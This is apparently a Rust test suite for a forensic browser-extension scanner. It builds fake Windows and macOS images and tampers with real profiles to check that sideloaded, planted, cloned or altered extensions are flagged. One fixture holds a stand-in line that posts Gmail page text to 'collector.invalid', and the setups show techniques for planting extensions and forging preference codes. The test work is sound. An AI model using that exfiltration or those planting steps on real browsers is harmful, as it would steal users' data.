//! How an extension got there, from whole machines to findings: images of three systems, and real profiles that were tampered
//! with. Everything planted here is inert.

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};

use crxhound::discover::{Filter, Root, Users};
use crxhound::engine::{Config, Engine, ScanRequest, Silent};
use crxhound::finding::Verdict;
use crxhound::model::{ContentState, ExtensionId, MacState};
use crxhound::report::Report;
use crxhound::report::model::ExtensionReport;
use serde_json::{Value, json};

use crate::support::codes::{SID, code_under, secure_preferences};
use crate::support::{hive, leveldb, material};

const METAMASK: &str = "nkbihfbeogaeaoehlefnkodbefgpgknn";

fn scan(root: Root, paths: Vec<PathBuf>) -> Report {
    let engine = Engine::new(Config::builtin().unwrap()).unwrap();
    let request = ScanRequest { root, filter: Filter { paths, ..Filter::default() }, ids: Vec::new() };
    engine.scan(&request, &Silent)
}

fn scan_image(image: &Path) -> Report {
    let report = scan(Root::image(image).unwrap(), Vec::new());
    assert_eq!(report.errors, []);
    report
}

fn scan_folder(folder: &Path) -> Report {
    scan(Root::live(Users::Current), vec![folder.to_owned()])
}

fn rules(extension: &ExtensionReport) -> BTreeSet<&str> {
    extension.findings.iter().map(|finding| finding.rule.as_str()).collect()
}

fn find<'r>(report: &'r Report, id: &str) -> &'r ExtensionReport {
    report.extensions.iter().find(|extension| extension.id.as_str() == id).unwrap_or_else(|| panic!("{id} is not reported"))
}

fn write(path: &Path, data: impl AsRef<[u8]>) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, data).unwrap();
}

fn copy(from: &Path, to: &Path) {
    for entry in walkdir::WalkDir::new(from).into_iter().filter_map(Result::ok).filter(|entry| entry.file_type().is_file()) {
        write(&to.join(entry.path().strip_prefix(from).unwrap()), fs::read(entry.path()).unwrap());
    }
}

/// A Windows machine of one user, with an unbranded browser, whose accounts have SIDs of `machine`.
fn windows(image: &Path, machine: &str, user: &hive::Key, preferences: &Value) {
    let config = image.join("Windows/System32/config");
    let mut software = hive::Key::new("ROOT");
    let home = software.at(&format!(r"Microsoft\Windows NT\CurrentVersion\ProfileList\{machine}-1001"));
    home.set_text("ProfileImagePath", r"C:\Users\kim");
    let mut system = hive::Key::new("ROOT");
    system.at("Select").set("Current", 4, &1u32.to_le_bytes());
    system.at(r"ControlSet001\Services\Tcpip\Parameters").set_text("Domain", "");
    write(&config.join("SOFTWARE"), software.bytes());
    write(&config.join("SYSTEM"), system.bytes());
    write(&image.join("Users/kim/NTUSER.DAT"), user.bytes());
    let data = image.join("Users/kim/AppData/Local/Chromium/User Data");
    write(&data.join("Local State"), r#"{"profile":{"info_cache":{"Default":{"name":"Kim"}}}}"#);
    write(&data.join("Default/Preferences"), "{}");
    write(&data.join("Default/Secure Preferences"), preferences.to_string());
}

/// Unknown code in the shape in which SHARPEXT is installed, with codes that fit.
fn sharpext_shape(image: &Path, machine: &str) -> ExtensionId {
    let path = r"C:\Users\kim\AppData\Roaming\Helper";
    let id = ExtensionId::from_path(path, true);
    let entry = json!({
        "creation_flags": 38,
        "granted_permissions": {
            "api": ["devtools", "tabs", "webNavigation", "webRequest", "webRequestBlocking"],
            "explicit_host": ["https://*/*"],
        },
        "location": 4,
        "path": path,
    });
    windows(image, machine, &hive::Key::new("ROOT"), &secure_preferences(&[(id.clone(), entry)]));
    let manifest = json!({
        "manifest_version": 2, "name": "Fonts for pages", "version": "1.0", "description": "Nicer fonts",
        "background": { "scripts": ["work.js"] }, "devtools_page": "tools.html",
        "permissions": ["tabs", "webNavigation", "webRequest", "webRequestBlocking", "https://*/*"],
    });
    let folder = image.join("Users/kim/AppData/Roaming/Helper");
    write(&folder.join("manifest.json"), manifest.to_string());
    write(&folder.join("work.js"), "// nothing\n");
    write(&folder.join("tools.html"), "<!doctype html>\n");
    id
}

#[test]
fn the_shape_of_sharpext_with_unknown_code_and_fitting_codes() {
    let image = tempfile::tempdir().unwrap();
    let id = sharpext_shape(image.path(), SID);
    let report = scan_image(image.path());
    let extension = find(&report, id.as_str());
    assert_eq!(extension.integrity.preferences_mac, MacState::Valid);
    assert_eq!(report.browsers[0].profiles[0].super_mac, MacState::Valid);
    assert!(extension.verdict >= Verdict::Suspicious, "{:?}", rules(extension));
    assert!(rules(extension).contains("has-sharpext-install-shape"), "{:?}", rules(extension));
    // A code that fits lowers nothing, and one that cannot be judged accuses nobody.
    let other = tempfile::tempdir().unwrap();
    sharpext_shape(other.path(), "S-1-5-21-4-5-6");
    let report = scan_image(other.path());
    let stranger = find(&report, id.as_str());
    assert_eq!(stranger.integrity.preferences_mac, MacState::Unverifiable);
    assert_eq!((stranger.verdict, rules(stranger)), (extension.verdict, rules(extension)));
}

/// Browsers on Windows keep a second copy of the codes in the registry, which a planted entry is not in.
#[test]
fn file_and_registry_disagree() {
    let image = tempfile::tempdir().unwrap();
    let id = sharpext_shape(image.path(), SID);
    let secure = image.path().join("Users/kim/AppData/Local/Chromium/User Data/Default/Secure Preferences");
    let tree: Value = serde_json::from_slice(&fs::read(&secure).unwrap()).unwrap();
    let path = format!("extensions.settings.{id}");
    let seed = b"ChromeRegistryHashStoreValidationSeed";
    for (known, differs) in [(Some(code_under(seed, &path, &tree["extensions"]["settings"][id.as_str()])), false), (None, true)]
    {
        let mut user = hive::Key::new("ROOT");
        let codes = user.at(r"Software\Chromium\PreferenceMACs\Default");
        codes.set_text("homepage", &code_under(seed, "homepage", &json!("x")));
        if let Some(code) = known {
            codes.at("extensions.settings").set_text(id.as_str(), &code);
        }
        write(&image.path().join("Users/kim/NTUSER.DAT"), user.bytes());
        let report = scan_image(image.path());
        let extension = find(&report, id.as_str());
        assert_eq!(rules(extension).contains("registry-code-differs"), differs, "{:?}", rules(extension));
        assert_eq!(rules(extension).contains("was-planted-in-preferences"), differs);
    }
}

#[test]
fn the_shape_of_translatext_with_unknown_code() {
    let image = tempfile::tempdir().unwrap();
    let id = ExtensionId::from_key(b"translate");
    let update = "https://updates.invalid/u.xml";
    let manifest = json!({
        "background": { "service_worker": "work.js" }, "manifest_version": 3, "name": "Google Translate",
        "permissions": ["storage"], "update_url": update, "version": "1.0",
    });
    let entry = json!({
        "ack_external": true, "creation_flags": 1, "location": 7, "manifest": manifest, "path": format!(r"{id}\1.0_0"),
    });
    let mut user = hive::Key::new("ROOT");
    let list = user.at(r"Software\Policies\Chromium\ExtensionInstallForcelist");
    list.set_text("1", &format!("{id};{update}"));
    windows(image.path(), SID, &user, &secure_preferences(&[(id.clone(), entry)]));
    let folder = image.path().join(format!("Users/kim/AppData/Local/Chromium/User Data/Default/Extensions/{id}/1.0_0"));
    write(&folder.join("manifest.json"), manifest.to_string());
    write(&folder.join("work.js"), "// nothing\n");
    let report = scan_image(image.path());
    let extension = find(&report, id.as_str());
    assert!(extension.verdict >= Verdict::Suspicious, "{:?}", rules(extension));
    for rule in ["borrows-known-name", "is-forced-off-store-by-user-policy"] {
        assert!(rules(extension).contains(rule), "{rule}: {:?}", rules(extension));
    }
    // Before it is installed, the policy belongs to the machine.
    fs::remove_dir_all(&folder).unwrap();
    let secure = image.path().join("Users/kim/AppData/Local/Chromium/User Data/Default/Secure Preferences");
    write(&secure, secure_preferences(&[]).to_string());
    let report = scan_image(image.path());
    assert!(report.extensions.is_empty());
    let machine: BTreeSet<_> = report.machine.findings.iter().map(|finding| finding.rule.as_str()).collect();
    assert!(machine.contains("is-forced-off-store-by-user-policy"), "{machine:?}");
}

#[test]
fn a_wallet_cloned_into_a_cache_folder_of_macos() {
    let image = tempfile::tempdir().unwrap();
    let clone = "/Users/kim/Library/Caches/com.example.helper";
    let id = ExtensionId::parse(METAMASK).unwrap();
    let entry = json!({ "creation_flags": 38, "location": 4, "path": clone });
    let data = image.path().join("Users/kim/Library/Application Support/Chromium");
    fs::create_dir_all(image.path().join("System/Library/CoreServices")).unwrap();
    write(&data.join("Default/Preferences"), "{}");
    write(&data.join("Default/Secure Preferences"), secure_preferences(&[(id, entry)]).to_string());
    let manifest = json!({
        "manifest_version": 3, "name": "MetaMask", "version": "13.16.0", "background": { "service_worker": "work.js" },
        "update_url": "https://clients2.google.com/service/update2/crx",
    });
    write(&image.path().join(&clone[1..]).join("manifest.json"), manifest.to_string());
    write(&image.path().join(&clone[1..]).join("work.js"), "// nothing\n");
    let report = scan_image(image.path());
    let extension = find(&report, METAMASK);
    assert!(extension.verdict >= Verdict::Suspicious, "{:?}", rules(extension));
    for rule in ["wears-id-of-known-extension", "is-loaded-from-unusual-folder"] {
        assert!(rules(extension).contains(rule), "{rule}: {:?}", rules(extension));
    }
    // The codes are of another device, and nothing is said of them.
    assert_eq!(extension.integrity.preferences_mac, MacState::Unverifiable);
}

/// A copy of one of the real user-data folders.
fn real(name: &str) -> Option<tempfile::TempDir> {
    let profiles = material::profiles()?;
    let from = profiles.join(name);
    if !from.is_dir() {
        material::skip(&format!("the real profiles hold no {name}"));
        return None;
    }
    let folder = tempfile::tempdir().unwrap();
    copy(&from, folder.path());
    Some(folder)
}

fn edit(path: &Path, change: impl FnOnce(&mut Value)) {
    let mut tree: Value = serde_json::from_slice(&fs::read(path).unwrap()).unwrap();
    change(&mut tree);
    fs::write(path, tree.to_string()).unwrap();
}

#[test]
fn an_entry_edited_by_hand_is_said_and_accuses_nobody() {
    let Some(folder) = real("managed") else { return };
    let before = scan_folder(folder.path());
    let id = before.extensions.iter().find(|extension| extension.name == "Delta sample").unwrap().id.to_string();
    edit(&folder.path().join("Default/Preferences"), |tree| {
        tree["extensions"]["settings"][id.as_str()]["ack_external"] = false.into();
    });
    let after = scan_folder(folder.path());
    for (before, after) in before.extensions.iter().zip(&after.extensions) {
        if after.id.as_str() == id {
            assert_eq!(after.integrity.preferences_mac, MacState::Invalid);
            assert!(rules(after).contains("entry-code-does-not-fit"));
            assert!(after.verdict <= Verdict::Review, "{:?}", rules(after));
        } else {
            assert_eq!((after.integrity.preferences_mac, rules(after)), (MacState::Valid, rules(before)));
        }
    }
}

#[test]
fn a_broken_code_over_the_codes_belongs_to_the_profile() {
    let Some(folder) = real("managed") else { return };
    let findings = |report: &Report| -> BTreeSet<String> {
        let profiles = report.browsers.iter().flat_map(|browser| &browser.profiles);
        profiles.flat_map(|profile| &profile.findings).map(|finding| finding.rule.clone()).collect()
    };
    assert_eq!(findings(&scan_folder(folder.path())), BTreeSet::new());
    edit(&folder.path().join("Default/Secure Preferences"), |tree| tree["protection"]["super_mac"] = "00".into());
    edit(&folder.path().join("Default/Preferences"), |tree| {
        tree["extensions"]["ui"]["developer_mode"] = true.into();
        tree["homepage"] = "https://start.invalid/".into();
    });
    let report = scan_folder(folder.path());
    let wanted = ["developer-mode-was-switched-past-browser", "guarded-setting-was-changed", "profile-code-does-not-fit"]
        .map(str::to_owned);
    assert_eq!(findings(&report), wanted.into());
    assert_eq!(report.browsers[0].profiles[0].super_mac, MacState::Invalid);
}

#[test]
fn a_planted_entry_in_a_real_profile() {
    let Some(folder) = real("confirmed") else { return };
    let planted = folder.path().join("planted");
    write(&planted.join("manifest.json"), r#"{"manifest_version":3,"name":"Planted","version":"1"}"#);
    let path = planted.canonicalize().unwrap().to_str().unwrap().to_owned();
    let id = ExtensionId::from_path(&path, false);
    edit(&folder.path().join("Default/Preferences"), |tree| {
        tree["extensions"]["settings"][id.as_str()] = json!({ "location": 4, "path": path, "creation_flags": 38 });
    });
    let report = scan_folder(folder.path());
    let extension = find(&report, id.as_str());
    assert_eq!(
        (extension.integrity.preferences_mac, extension.integrity.encrypted_hash),
        (MacState::Missing, MacState::Missing)
    );
    assert!(rules(extension).contains("was-planted-in-preferences"), "{:?}", rules(extension));
    assert_eq!(extension.verdict, Verdict::Suspicious);
}

#[test]
fn a_store_package_before_and_after_it_was_tampered_with() {
    let Some(folder) = real("store") else { return };
    let state = |report: &Report| {
        let store = report.extensions.iter().find(|extension| extension.name == "Svelte DevTools").unwrap();
        (store.integrity.content, store.verdict, rules(store).into_iter().map(str::to_owned).collect::<BTreeSet<_>>())
    };
    let (content, verdict, _) = state(&scan_folder(folder.path()));
    assert_eq!(content, ContentState::Verified);
    assert!(verdict <= Verdict::Review);

    let script = walkdir::WalkDir::new(folder.path().join("Default/Extensions"))
        .into_iter()
        .filter_map(Result::ok)
        .find(|entry| entry.path().extension().is_some_and(|ending| ending == "js"))
        .unwrap();
    let mut bytes = fs::read(script.path()).unwrap();
    bytes.extend_from_slice(b"\n// one line more\n");
    fs::write(script.path(), bytes).unwrap();
    let (content, verdict, rules) = state(&scan_folder(folder.path()));
    assert_eq!((content, verdict), (ContentState::Modified, Verdict::Suspicious));
    assert!(rules.contains("store-scripts-were-changed"), "{rules:?}");
}

#[test]
fn an_unpacked_copy_of_a_store_package_with_its_key() {
    let Some(folder) = real("store") else { return };
    let report = scan_folder(folder.path());
    let store = report.extensions.iter().find(|extension| extension.name == "Svelte DevTools").unwrap();
    let (id, installed) = (store.id.clone(), PathBuf::from(store.path.clone().unwrap()));
    let unpacked = folder.path().join("unpacked");
    copy(&installed, &unpacked);
    fs::remove_dir_all(unpacked.join("_metadata")).unwrap();
    edit(&folder.path().join("Default/Preferences"), |tree| {
        tree["extensions"]["settings"][id.as_str()] =
            json!({ "location": 4, "path": unpacked.to_str().unwrap(), "creation_flags": 38 });
    });
    let report = scan_folder(folder.path());
    let extension = find(&report, id.as_str());
    assert_eq!((extension.integrity.content, extension.integrity.id_matches_key), (ContentState::Unsigned, Some(true)));
    let rules = rules(extension);
    assert!(
        rules.contains("wears-id-of-known-extension") || rules.contains("is-unpacked-copy-of-store-extension"),
        "{rules:?}"
    );
    assert!(extension.verdict >= Verdict::Suspicious, "{rules:?}");
}

/// A browser's own log of registered scripts, with one batch: code that is in no file.
fn extension_scripts(id: &ExtensionId, code: &str) -> Vec<u8> {
    let value = json!([{
        "id": "_du_x", "js": [{ "code": code }], "matches": ["https://mail.google.com/*"], "source": "DYNAMIC_USER_SCRIPT",
        "world": "USER_SCRIPT",
    }])
    .to_string();
    let key = format!("{id}.dynamic_scripts");
    leveldb::log(&[leveldb::batch(1, &[(&key, Some(value.as_bytes()))])])
}

#[test]
fn code_that_is_kept_in_the_profile_is_read_like_a_file() {
    let image = tempfile::tempdir().unwrap();
    let id = sharpext_shape(image.path(), SID);
    let data = image.path().join("Users/kim/AppData/Local/Chromium/User Data/Default");
    let code = "fetch('https://collector.invalid/in', { method: 'POST', body: document.body.innerText });";
    write(&data.join("Extension Scripts/000003.log"), extension_scripts(&id, code));
    let report = scan_image(image.path());
    let extension = find(&report, id.as_str());
    assert!(rules(extension).contains("runs-code-kept-in-profile"), "{:?}", rules(extension));
    assert!(extension.contacts.iter().any(|contact| contact.host == "collector.invalid"), "{:?}", extension.contacts);
}

#[test]
fn data_of_an_extension_that_is_gone_belongs_to_the_profile() {
    let Some(folder) = real("plain") else { return };
    let left = |report: &Report| -> BTreeSet<String> {
        let profiles = report.browsers.iter().flat_map(|browser| &browser.profiles);
        let profile = profiles.into_iter().find(|profile| profile.directory == "Default").unwrap();
        let findings = profile.findings.iter().filter(|finding| finding.rule == "data-of-removed-extension");
        findings.flat_map(|finding| &finding.evidence).filter_map(|evidence| evidence.file.clone()).collect()
    };
    let before = scan_folder(folder.path());
    assert_eq!(left(&before), BTreeSet::new());
    let id = before.extensions.iter().find(|extension| extension.name == "Alpha sample").unwrap().id.to_string();
    // The entry goes and its code with it, as after a clean-up by hand; the data stay.
    edit(&folder.path().join("Default/Preferences"), |tree| {
        for list in ["/extensions/settings", "/protection/macs/extensions/settings"] {
            tree.pointer_mut(list).unwrap().as_object_mut().unwrap().shift_remove(&id);
        }
    });
    let found = left(&scan_folder(folder.path()));
    for name in ["Local Extension Settings", "Extension Scripts", "Extension State", "Service Worker/Database"] {
        assert!(found.iter().any(|file| file.ends_with(name)), "{name}: {found:?}");
    }
}
